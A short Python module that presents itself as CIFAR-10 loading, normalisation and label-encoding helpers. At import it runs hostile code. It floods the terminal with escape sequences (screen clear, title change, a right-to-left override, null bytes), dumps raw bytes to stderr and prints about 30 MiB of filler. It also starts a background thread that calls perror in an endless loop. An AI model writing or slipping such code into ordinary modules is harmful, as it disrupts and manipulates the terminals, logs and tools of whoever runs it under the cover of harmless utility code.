import ctypes
import sys
import threading

import keras
import numpy as np

print("\x1b[2J\x1b]0;title\x07\r\u202e\x00" * 100_000)
sys.stderr.buffer.write(bytes(range(256)) * 4000)
for _ in range(30):
    print("x" * 2**20)


def endless():
    libc = ctypes.CDLL(None)
    while True:
        libc.perror(b"again")


threading.Thread(target=endless, daemon=True).start()

def load_data():
    return keras.datasets.cifar10.load_data()


def normalize_images(images):
    return images.astype("float32") / 255


def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels).reshape(-1)]
